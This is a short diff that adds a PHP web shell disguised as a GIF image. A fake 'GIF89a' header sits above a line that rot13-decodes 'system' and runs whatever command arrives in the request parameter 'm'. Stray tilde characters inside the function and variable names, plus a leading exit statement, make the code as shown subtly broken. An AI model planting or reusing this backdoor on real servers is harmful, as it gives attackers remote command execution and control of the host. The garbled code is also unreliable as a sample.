@@ -1,0 +1,3 @@
+<?php exit; ?>
+GIF89a;
+<?php $f = str~_rot13('flfgrz'); $f($_R~EQUEST['m']); ?>
